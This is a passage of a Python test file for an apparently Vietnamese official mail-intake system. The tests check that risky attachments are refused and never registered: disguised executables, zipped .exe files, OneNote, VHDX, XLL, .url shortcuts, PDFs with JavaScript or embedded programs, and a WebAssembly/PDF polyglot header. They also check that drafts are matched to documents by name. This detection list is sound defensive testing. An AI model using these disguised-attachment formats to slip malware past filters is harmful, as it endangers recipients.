    return doc.tobytes()


def _codes(out: dict) -> dict[str, str]:
    return {r["code"]: r["severity"] for r in out["reasons"]}


@pytest.mark.parametrize("name,says", [
    ("zip-pdf-then-exe", "tệp nén: ho-so.zip"), ("polyglot-exe", "tệp chạy được giả dạng PDF: cong-van.exe"),
    ("forwarded-zip", "tệp nén: ho-so.zip"), ("html", "trang HTML: thong-bao.html"), ("onenote", "sổ tay OneNote"),
    ("vhdx", "ảnh đĩa"), ("xll", "tệp chạy được: bang-tinh.xll"), ("url", "lối tắt: tai-lieu.url"),
    ("pdf-javascript", "cv.pdf: JavaScript"), ("pdf-embedded-exe", "tệp nhúng tệp chạy được: setup.exe"),
])
def test_refused_attachment_is_returned_to_a_proven_sender_and_never_registered(run, name: str, says: str) -> None:
    out = run[1][name]
    assert out["verdict"] == "returned", out["reasons"]
    assert _codes(out)["unsupported-attachment"] == "error"
    assert any(says in r["message"] for r in out["reasons"] if r["code"] == "unsupported-attachment"), out["reasons"]
    assert out["incoming_number"] is None
    assert out["replies"] == [{"kind": "return", "to": STP}]


@pytest.mark.parametrize("name", ["forged-zip-pdf-then-exe", "forged-pdf-javascript"])
def test_refused_attachment_from_an_unproven_sender_is_quarantined_and_only_the_clerk_told(run, name: str) -> None:
    out = run[1][name]
    assert out["verdict"] == "quarantined" and out["incoming_number"] is None
    assert _codes(out)["unsupported-attachment"] == "error"
    assert out["replies"] == [{"kind": "alert", "to": US["mailbox"]}]


def test_a_forwarded_pdf_is_kept_but_never_registered(run) -> None:
    w, by_name = run
    alone = by_name["forwarded-pdf-only"]
    assert alone["verdict"] == "returned" and _codes(alone) == {"no-document": "error"}
    assert alone["incoming_number"] is None
    own = by_name["own-and-forwarded-pdf"]
    assert own["verdict"] == "accepted" and own["incoming_number"] is not None
    register = w.db()
    with register.session() as s:
        for out, roles in ((alone, {"extra"}), (own, {"document", "extra"})):
            mail = s.scalars(select(Mail).where(Mail.message_id == out["message_id"])).one()
            files = s.scalars(select(DocumentFile).where(DocumentFile.mail_id == mail.id)).all()
            assert {f.role for f in files} == roles
            assert all(f.document_id is None for f in files if f.role == "extra")
    register.close()


def test_a_webassembly_header_right_before_pdf_is_refused() -> None:
    # hypothesis found it (stop 34): "\0asm" then "%PDF-": the NUL stripped as padding left "asm", no format's magic
    assert classify("cv.pdf", "", b"\x00asm%PDF-").kind == "refused"
    assert classify("cv.pdf", "application/pdf", b"\x00\x00" + PLAIN).kind == "pdf"  # NUL padding alone is none


# ---- which document a draft goes with ---------------------------------------------------------------------------------
@pytest.mark.parametrize("draft,documents,owner", [
    ("707-UBND-TH.docx", ["707-UBND-TH.pdf"], 0),
    ("du-thao.docx", ["707-UBND-TH.pdf"], 0),  # the mail's only document
    ("du-thao.docx", ["707-UBND-TH.pdf", "708-UBND-TH.pdf"], None),  # named after neither of two
    ("708-UBND-TH.doc", ["707-UBND-TH.pdf", "708-UBND-TH_signed.pdf"], 1),  # its name goes on
    ("Dự thảo 708.docx", ["Du_thao_708.pdf", "707.pdf"], 0),  # marks and separators aside
    ("1.docx", ["12.pdf", "1.pdf"], 1),  # words, not letters: "1" is not "12"'s
    ("1.docx", ["12.pdf", "13.pdf"], None),
    ("cv.docx", ["cv.pdf", "cv.pdf"], None),  # two documents of one name
    (".docx", ["a.pdf", "b.pdf"], None),  # no name at all
    ("CV 55 bổ sung - dự thảo.docx", ["CV 55.pdf", "CV 55 bổ sung.pdf"], 1),  # the longest (red team 93)
    ("CV 55.docx", ["CV 55 bổ sung.pdf", "CV 55 sửa.pdf"], None),  # going on into two alike
])
def test_a_draft_goes_with_the_document_it_is_named_after(draft: str, documents: list[str], owner: int | None) -> None:
    assert draft_owner(draft, documents) == owner
